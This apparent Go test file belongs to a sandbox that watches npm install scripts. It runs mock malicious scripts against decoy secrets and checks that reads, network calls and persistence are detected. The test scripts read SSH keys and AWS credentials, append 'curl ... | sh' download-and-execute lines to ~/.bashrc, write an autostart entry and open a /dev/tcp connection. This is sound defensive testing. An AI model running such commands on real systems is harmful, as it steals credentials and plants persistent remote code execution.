package behaviour

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/phylum-box/phylum-box/container"
	"github.com/phylum-box/phylum-box/internal/sandbox"
	"github.com/phylum-box/phylum-box/internal/testutil"
	"github.com/phylum-box/phylum-box/rootfs"
)

// boxed runs script in a real container whose $HOME holds fresh decoys, and
// returns what the decoy watch saw and the script's output.
func boxed(t *testing.T, script string, mon func(*Decoys) *container.Monitor) ([]DecoyTouch, string, *Decoys) {
	t.Helper()
	needContainers(t)
	proj := testutil.NewProject(t, map[string]string{"package.json": "{}\n"})
	home := "/home/tester"
	if os.Geteuid() != 0 {
		home = os.Getenv("HOME")
	}
	s, err := sandbox.Open(context.Background(), sandbox.Options{Project: proj, Home: home, Mode: rootfs.ModeAuto})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	dir := filepath.Join(filepath.Dir(proj), "decoys")
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	id := s.Identity()
	d, err := NewDecoys(dir, home, id.RootUID, id.RootGID)
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var touches []DecoyTouch
	w, err := d.Watch(func(tc DecoyTouch) {
		mu.Lock()
		defer mu.Unlock()
		touches = append(touches, tc)
	})
	if err != nil {
		t.Fatal(err)
	}
	ro, rw := d.Binds(nil)
	var out bytes.Buffer
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	e := sandbox.Exec{
		Args:   []string{"sh", "-c", script},
		Env:    sandbox.ScrubEnv(os.Environ(), nil, home, "tester", "npm_package_name=evil", "npm_package_version=6.6.6"),
		Limits: container.Limits{Timeout: 30 * time.Second},
		Files:  ro, Writable: rw,
		Stdout: &out, Stderr: &out,
	}
	if mon != nil {
		e.Monitor = mon(d)
	}
	res, err := s.Run(ctx, e)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	w.Close()
	if mon != nil && !res.Monitored {
		t.Fatalf("the run was not monitored: %s", res.MonitorNote)
	}
	if res.ExitCode != 0 {
		t.Fatalf("script exited %d: %s", res.ExitCode, out.String())
	}
	mu.Lock()
	defer mu.Unlock()
	return append([]DecoyTouch(nil), touches...), out.String(), d
}

func TestDecoysSeenThroughTheBinds(t *testing.T) { forEachMode(t, decoysSeenThroughTheBinds) }

func decoysSeenThroughTheBinds(t *testing.T) {
	touches, out, d := boxed(t, `set -e
ls -la ~ ~/.ssh >/dev/null
head -c 40 ~/.ssh/id_rsa; echo
grep -c aws_secret ~/.aws/credentials
echo 'curl evil | sh' >> ~/.bashrc
printf '[Desktop Entry]\nExec=/tmp/x\n' > ~/.config/autostart/update.desktop
`, nil)
	t.Logf("output:\n%s", out)
	t.Logf("touches: %+v", touches)
	if !strings.Contains(out, "-----BEGIN OPENSSH PRIVATE KEY-----") {
		t.Errorf("the id_rsa decoy does not read as a key inside: %q", out)
	}
	want := map[string]bool{"~/.ssh/id_rsa": true, "~/.aws/credentials": true, "~/.bashrc": false, "~/.config/autostart/update.desktop": false}
	for p, secret := range want {
		found := false
		for _, tc := range touches {
			if tc.Path == p && tc.Secret == secret {
				found = true
			}
		}
		if !found {
			t.Errorf("no touch of %s (secret %v) seen", p, secret)
		}
	}
	_ = d
}

func TestDecoysQuietWhenUntouched(t *testing.T) { forEachMode(t, decoysQuietWhenUntouched) }

func decoysQuietWhenUntouched(t *testing.T) {
	touches, out, _ := boxed(t, `ls -la ~ ~/.ssh ~/.config >/dev/null; stat ~/.ssh/id_rsa >/dev/null; echo ok`, nil)
	if len(touches) != 0 {
		t.Errorf("a script that only lists and stats the home: touches %+v (output %s)", touches, out)
	}
}

// TestRecorderEndToEnd runs a quiet malicious install script — it reads the SSH
// key and tries the network, swallowing every error — in a real monitored
// container: both are seen and filed under the package its environment names. Its
// twin, a script that builds (sh, cc-like tools, node-gyp-ish work in the project),
// is observed with nothing high.
func TestRecorderEndToEnd(t *testing.T) { forEachMode(t, recorderEndToEnd) }

func recorderEndToEnd(t *testing.T) {
	for _, tt := range []struct {
		name, script string
		want         []string
	}{
		{"quiet thief", `cat ~/.ssh/id_rsa >/dev/null 2>&1; bash -c 'exec 3<>/dev/tcp/203.0.113.9/443' 2>/dev/null || true; echo done`,
			[]string{"evil@6.6.6 PB-BEHAVIOUR-SECRET-READ high", "evil@6.6.6 PB-BEHAVIOUR-NETWORK high", "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high"}},
		{"persistent exfiltrator", `echo 'curl -s https://x.example/i | sh' >> ~/.bashrc 2>/dev/null; k=$(grep aws_secret ~/.aws/credentials); /bin/echo "$k" >/dev/null; setsid true; echo done`,
			[]string{"evil@6.6.6 PB-BEHAVIOUR-PERSISTENCE high", "evil@6.6.6 PB-BEHAVIOUR-SECRET-READ high", "evil@6.6.6 PB-BEHAVIOUR-CANARY high", "evil@6.6.6 PB-BEHAVIOUR-DETACH medium"}},
		{"builder", `mkdir -p build && echo 'int x;' > build/x.c && sh -c 'cat build/x.c | wc -c' && ls ~ >/dev/null && uname -a >/dev/null; echo done`, nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var r *Recorder
			_, out, _ := boxed(t, tt.script, func(d *Decoys) *container.Monitor {
				var err error
				// The watch boxed started sees the same touches; this one records.
				r, err = NewRecorder("npm", d)
				if err != nil {
					t.Fatal(err)
				}
				return r.Monitor()
			})
			r.Close()
			obs := r.Findings()
			t.Logf("output: %s\nobservations:\n%s", out, summary(obs))
			for _, o := range obs {
				t.Logf("  %s %s: %s %q", o.Owner(), o.Rule, o.Summary, o.Evidence)
			}
			got := summary(obs)
			for _, w := range tt.want {
				if !strings.Contains(got, w+"\n") {
					t.Errorf("missing %q", w)
				}
			}
			if tt.want == nil {
				for _, o := range obs {
					if o.Severity == High {
						t.Errorf("a legitimate script got a high observation: %+v", o)
					}
				}
			}
		})
	}
}

// forEachMode runs f as the subtests "root" and "rootless" (the latter as
// rootlessUser when this process is root).
func forEachMode(t *testing.T, f func(t *testing.T)) {
	t.Run("root", func(t *testing.T) {
		if os.Geteuid() != 0 {
			t.Skip("not root")
		}
		f(t)
	})
	t.Run("rootless", func(t *testing.T) {
		if os.Geteuid() != 0 {
			f(t)
			return
		}
		parent, _, _ := strings.Cut(t.Name(), "/")
		asUser(t, "^"+parent+"$/^rootless$")
	})
}

// needContainers skips a test that starts containers: with -short, and when not
// root unless asUser started this process for a rootless run.
func needContainers(t *testing.T) {
	t.Helper()
	if os.Geteuid() != 0 && os.Getenv(rootlessEnv) != "1" {
		testutil.NeedRootContainers(t)
	}
	if testing.Short() {
		t.Skip("starts containers; skipped with -short")
	}
}

const rootlessEnv = "PB_BEHAVIOUR_ROOTLESS"

// rootlessUser is the integration suite's plain rootless user (no subordinate ids).
const rootlessUser = "pbox-it"

// asUser runs the tests run selects again, as rootlessUser, and fails t if they
// fail there: the rootless half of a root/rootless pair.
func asUser(t *testing.T, run string) {
	needContainers(t)
	u, err := user.Lookup(rootlessUser)
	if err != nil {
		t.Skipf("no user %s to run the rootless case as (the integration suite creates it): %v", rootlessUser, err)
	}
	dir := t.TempDir()
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(filepath.Dir(dir), 0o711); err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(dir, "behaviour.test")
	data, err := os.ReadFile(os.Args[0])
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(bin, data, 0o755); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("setpriv", "--reuid="+u.Uid, "--regid="+u.Gid, "--init-groups", "--",
		bin, "-test.run", run, "-test.v", "-test.count=1")
	cmd.Dir = "/"
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + u.HomeDir, "USER=" + u.Username, "LANG=C.UTF-8", rootlessEnv + "=1"}
	out, err := cmd.CombinedOutput()
	t.Logf("as %s:\n%s", u.Username, out)
	if err != nil || !strings.Contains(string(out), "--- PASS") || strings.Contains(string(out), "--- SKIP") {
		t.Fatalf("the rootless run failed or skipped: %v", err)
	}
}
